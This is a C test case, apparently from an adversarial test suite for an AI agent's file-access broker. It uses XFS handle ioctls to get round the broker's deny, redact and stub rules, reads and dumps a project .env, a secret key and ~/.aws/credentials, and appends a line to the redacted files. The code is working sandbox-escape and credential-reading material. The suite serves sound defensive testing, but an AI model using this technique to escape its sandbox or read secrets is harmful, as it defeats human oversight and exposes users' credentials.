// technique: XFS's handle ioctls, the ioctl twin of name_to_handle_at/open_by_handle_at (refused as syscalls): PATH_TO_HANDLE resolves a path in the kernel, unbrokered, OPEN_BY_HANDLE opens the file it names with no path at all, so the broker's deny, redact and stub decisions never run and only Landlock's coarser rules are left (a redacted .env and a stubbed key inside the project come out whole); on another filesystem they answer ENOTTY, which still shows the filter passed them
// needs: token
// Harmless on a filesystem that is not XFS (ENOTTY). OPEN_BY_HANDLE needs
// CAP_SYS_ADMIN (a root agent). test/adversarial/manual/xfs-world.sh runs
// this case in a world on a loop-mounted XFS image.
#include "adv.h"
#include <stdint.h>
#include <sys/ioctl.h>

struct handlereq { // struct xfs_fsop_handlereq (xfs/xfs_fs.h), 64-bit layout
	uint32_t fd;
	void *path;
	uint32_t oflags;
	void *ihandle;
	uint32_t ihandlen;
	void *ohandle;
	uint32_t *ohandlen;
};
#define XFS_IOC_PATH_TO_HANDLE _IOWR('X', 105, struct handlereq)
#define XFS_IOC_FD_TO_HANDLE _IOWR('X', 106, struct handlereq)
#define XFS_IOC_OPEN_BY_HANDLE _IOWR('X', 107, struct handlereq)

int main(void) {
	char token[128];
	snprintf(token, sizeof token, "CANARY-REACHED-%s", adv("TAG"));
	int any = open(".", O_RDONLY | O_DIRECTORY);
	int reached = 0;
	char targets[4][1024];
	snprintf(targets[0], sizeof targets[0], "%s/.env", adv("PROJECT"));
	snprintf(targets[1], sizeof targets[1], "%s/tools/secret.pem", adv("PROJECT"));
	snprintf(targets[2], sizeof targets[2], "%s", adv("SECRET"));
	snprintf(targets[3], sizeof targets[3], "%s/.aws/credentials", adv("HOME"));
	for (int i = 0; i < 4; i++) {
		unsigned char h[64];
		uint32_t hl = sizeof h;
		struct handlereq r = {.path = targets[i], .ohandle = h, .ohandlen = &hl};
		if (ioctl(any, XFS_IOC_PATH_TO_HANDLE, &r) < 0) {
			printf("PATH_TO_HANDLE %s: %s\n", targets[i], strerror(errno));
			if (errno != EPERM) reached = 1;
			continue;
		}
		reached = 1;
		printf("PATH_TO_HANDLE %s: handle of %u bytes\n", targets[i], hl);
		struct handlereq o = {.oflags = O_RDONLY, .ihandle = h, .ihandlen = hl};
		int fd = ioctl(any, XFS_IOC_OPEN_BY_HANDLE, &o);
		if (fd < 0) {
			printf("OPEN_BY_HANDLE %s: %s\n", targets[i], strerror(errno));
			continue;
		}
		dump(targets[i], fd);
		close(fd);
		// A redacted file is refused every write; by handle it is not.
		o.oflags = O_WRONLY | O_APPEND;
		fd = ioctl(any, XFS_IOC_OPEN_BY_HANDLE, &o);
		if (fd >= 0) {
			printf("OPEN_BY_HANDLE %s for writing: appended %zd bytes\n", targets[i], write(fd, "# agent was here\n", 17));
			close(fd);
		}
	}
	unsigned char h[64];
	uint32_t hl = sizeof h;
	struct handlereq f = {.fd = any, .ohandle = h, .ohandlen = &hl};
	int rc = ioctl(any, XFS_IOC_FD_TO_HANDLE, &f);
	printf("FD_TO_HANDLE: %s\n", rc < 0 ? strerror(errno) : "ok");
	if (reached) printf("the filter passed the handle ioctls %s\n", token);
	return 0;
}
